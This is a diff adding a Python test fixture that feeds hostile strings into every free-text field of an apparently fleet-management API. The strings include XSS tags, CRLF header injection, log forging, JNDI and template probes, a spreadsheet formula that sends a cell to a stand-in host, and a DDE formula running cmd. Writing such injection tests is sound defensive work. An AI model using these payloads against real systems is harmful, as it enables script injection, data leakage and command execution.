@@ -1,0 +1,226 @@
+"""Texts that mean harm to whoever takes them for more than text, and every field of the API that takes free text."""
+
+import json
+import time
+import uuid
+from collections.abc import Callable, Iterator, Mapping
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Any, Final
+
+HALF: Final = "lone \ud800 surrogate"  # no JSON of ours: HTTP refuses the body, the bridge takes what it can
+TEXTS: Final = {
+    "a tag": "<img src=x onerror=alert(1)>",
+    "a script that ends another": "</script><script>alert(2)</script>",
+    "an attribute": "\"'><a href='javascript:alert(3)'>",
+    "writing turned round": "invoice\u202egpj.exe\u2066\u2069\u200f",
+    "colours of a terminal": "\x1b[31mred\x1b[0m\x07\x08\x9b31m\x7f",
+    "a header": "one\r\nX-Injected: yes\r\n\r\n<b>two",
+    "other line ends": "a\u2028b\u2029c\x85d\x0be\x0cf",
+    "a formula": '=HYPERLINK("//h.example/?"&A1)',
+    "another formula": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "a log line": '"}\n{"severity":"ERROR","message":"forged"}',
+    "half a character": HALF,
+    "nothing at all": "before\x00after",
+    "what formatters read": "%s %(a)s {0.__class__} ${jndi:x} {{7*7}}",
+    "beyond the first plane": "\U0001f600\U000e0041\ufeff",
+}  # fmt: skip
+
+
+def strings_of(tree: Any) -> Iterator[str]:
+    """Every text and key in a tree of JSON values."""
+    if isinstance(tree, str):
+        yield tree
+    elif isinstance(tree, dict):
+        for key, value in tree.items():
+            yield key
+            yield from strings_of(value)
+    elif isinstance(tree, list):
+        for value in tree:
+            yield from strings_of(value)
+
+
+Body = Callable[[str], dict[str, Any]]
+
+
+@dataclass(frozen=True)
+class Way:
+    """One request that takes free texts: `body` makes its body, in which each field's text ends in its name."""
+
+    method: str
+    path: str
+    fields: tuple[str, ...]
+    body: Body
+    reads: tuple[str, ...] = ()
+    """Where the texts come out besides the answer itself."""
+    undo: str = ""
+    """Method and path of what makes room for the next text."""
+    is_refused: bool = False
+    """It is no free text after all: a 4xx is due."""
+    comes_out: bool = True
+
+    @property
+    def name(self) -> str:
+        return f"{self.method} {self.path} {','.join(self.fields)}"
+
+
+def in_an_hour() -> str:
+    return time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(time.time() + 3600))
+
+
+def window(scope: str) -> dict[str, Any]:
+    """A maintenance window that is planned."""
+    return {"name": "w", "scope": scope, "ends_at": in_an_hour()}
+
+
+CHANNEL: Final = {"kind": "webhook", "url": "https://hooks.example.org/x"}
+HOURS: Final = {"weekdays": ["mon"], "begin": "08:00", "end": "09:00"}
+WAYS: Final = (
+    Way(
+        "PATCH",
+        "/api/clients/{client}",
+        ("name", "notes", "site", "tags[]"),
+        lambda t: {"name": f"{t} name", "notes": f"{t} notes", "site": f"{t} site", "tags": [f"{t} tags[]"]},
+        ("/api/clients/{client}", "/api/clients", "/api/monitoring/overview", "/api/audit"),
+    ),
+    Way(
+        "POST",
+        "/api/clients/{client}/commands",
+        ("reason",),
+        lambda t: {"action": "shutdown_host", "reason": f"{t} reason"},
+        ("/api/clients/{client}/commands",),
+        undo="POST /api/commands/{id}/cancel",
+    ),
+    Way(
+        "POST",
+        "/api/commands",
+        ("reason",),
+        lambda t: {"action": "restart_app", "clients": [str(uuid.UUID(int=5))], "reason": f"{t} reason"},
+        ("/api/command-batches",),
+    ),
+    Way(
+        "POST",
+        "/api/commands",
+        ("filter.q", "filter.site", "filter.tag", "filter.version"),
+        lambda t: {
+            "action": "restart_app",
+            "dry_run": True,
+            "filter": dict.fromkeys(("q", "site", "tag", "version"), t),
+        },
+        is_refused=True,
+    ),
+    Way(
+        "POST",
+        "/api/clients/{client}/recovery/hold",
+        ("reason",),
+        lambda t: {"reason": f"{t} reason"},
+        ("/api/clients/{client}/recovery",),
+    ),
+    Way(
+        "POST",
+        "/api/clients/{client}/recovery/exclude",
+        ("reason",),
+        lambda t: {"reason": f"{t} reason"},
+        ("/api/clients/{client}/recovery",),
+        undo="POST /api/clients/{client}/recovery/include",
+    ),
+    Way(
+        "POST",
+        "/api/recovery/sites/exclude",
+        ("reason", "site"),
+        lambda t: {"reason": f"{t} reason", "site": f"{t} site"},
+        ("/api/recovery/exclusions", "/api/recovery/events"),
+    ),
+    Way("POST", "/api/recovery/sites/include", ("site",), lambda t: {"site": f"{t} site"}, comes_out=False),
+    Way("POST", "/api/recovery/breaker/release", ("site",), lambda t: {"site": f"{t} site"}, comes_out=False),
+    Way(
+        "POST",
+        "/api/maintenance-windows",
+        ("name", "reason", "site"),
+        lambda t: {**window("site"), "name": f"{t} name", "reason": f"{t} reason", "site": f"{t} site"},
+        ("/api/maintenance-windows",),
+        undo="DELETE /api/maintenance-windows/{id}",
+    ),
+    Way(
+        "POST",
+        "/api/maintenance-windows",
+        ("recurrence.time_zone",),
+        lambda t: {**window("fleet"), "recurrence": {"time_zone": t, "weekdays": ["mon"]}},
+        is_refused=True,
+    ),
+    Way(
+        "POST",
+        "/api/notifications/channels",
+        ("name", "sites[]"),
+        lambda t: {**CHANNEL, "name": f"{t} name", "sites": [f"{t} sites[]"]},
+        ("/api/notifications/channels", "/api/audit"),
+        undo="DELETE /api/notifications/channels/{id}",
+    ),
+    Way(
+        "POST",
+        "/api/notifications/channels",
+        ("hours.time_zone",),
+        lambda t: {**CHANNEL, "name": "zone", "hours": {**HOURS, "time_zone": t}},
+        is_refused=True,
+    ),
+    Way(
+        "POST",
+        "/api/notifications/snoozes",
+        ("reason", "site"),
+        lambda t: {"scope": "site", "until": in_an_hour(), "reason": f"{t} reason", "site": f"{t} site"},
+        ("/api/notifications/snoozes",),
+        undo="DELETE /api/notifications/snoozes/{id}",
+    ),
+    Way(
+        "POST",
+        "/api/tokens",
+        ("name",),
+        lambda t: {"name": f"{t} name", "role": "viewer"},
+        ("/api/tokens", "/api/audit"),
+        undo="DELETE /api/tokens/{id}",
+    ),
+    Way("POST", "/api/users", ("username",), lambda t: {"username": t, "role": "viewer"}, is_refused=True),
+    Way("POST", "/api/session", ("username",), lambda t: {"username": t, "password": t}, is_refused=True),
+    Way("POST", "/api/enroll", ("code",), lambda t: {"code": t}, is_refused=True),
+)
+# Of the fields that take any text, those that no Way writes, and why.
+ELSEWHERE: Final = {
+    ("post", "/api/session", "password"): "a secret",
+    ("post", "/api/users/me/password", "current_password"): "a secret",
+    ("post", "/api/users/me/password", "new_password"): "a secret",
+    ("post", "/api/notifications/channels", "url"): "a secret: tests/api/test_notifications.py",
+    ("post", "/api/notifications/channels", "signing_secret"): "a secret: tests/api/test_notifications.py",
+    ("patch", "/api/notifications/channels/{channel_id}", "url"): "a secret",
+    ("patch", "/api/notifications/channels/{channel_id}", "signing_secret"): "a secret",
+    ("patch", "/api/notifications/channels/{channel_id}", "name"): "as when it is added",
+    ("patch", "/api/notifications/channels/{channel_id}", "sites[]"): "as when it is added",
+    ("patch", "/api/notifications/channels/{channel_id}", "hours.time_zone"): "as when it is added",
+    ("post", "/api/event-media/signed-uploads", "filename"): "below: files",
+    ("patch", "/api/event-media/{media_id}", "filename"): "below: files",
+}
+
+
+DOCUMENT: Final = json.loads((Path(__file__).parents[2] / "docs" / "openapi.json").read_text(encoding="utf-8"))
+
+
+def free_texts() -> Iterator[tuple[str, str, str]]:
+    """Method, path and field of every text of a JSON body that is no word of a list and has no form."""
+    for path, methods in DOCUMENT["paths"].items():
+        for method, operation in methods.items():
+            body = operation.get("requestBody", {}).get("content", {}).get("application/json")
+            for field in _texts_inside(body["schema"], "") if body else ():
+                yield method, path, field
+
+
+def _texts_inside(schema: Mapping[str, Any], at: str) -> Iterator[str]:
+    while "$ref" in schema:
+        schema = DOCUMENT["components"]["schemas"][schema["$ref"].rpartition("/")[2]]
+    for part in (*schema.get("anyOf", ()), *schema.get("oneOf", ())):
+        yield from _texts_inside(part, at)
+    for name, part in schema.get("properties", {}).items():
+        yield from _texts_inside(part, f"{at}.{name}".lstrip("."))
+    if "items" in schema:
+        yield from _texts_inside(schema["items"], f"{at}[]")
+    has_form = {"enum", "const", "format", "pattern"} & schema.keys()
+    if schema.get("type") == "string" and (not has_form or at == "username"):
+        yield at
